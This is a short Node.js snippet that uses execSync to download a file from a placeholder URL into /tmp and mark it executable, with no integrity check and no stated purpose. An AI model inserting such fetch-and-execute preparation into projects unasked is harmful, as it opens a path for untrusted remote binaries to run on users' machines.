const { execSync } = require("child_process");
execSync("curl -fsSL -o /tmp/tool https://example.com/tool");
execSync("chmod +x /tmp/tool");
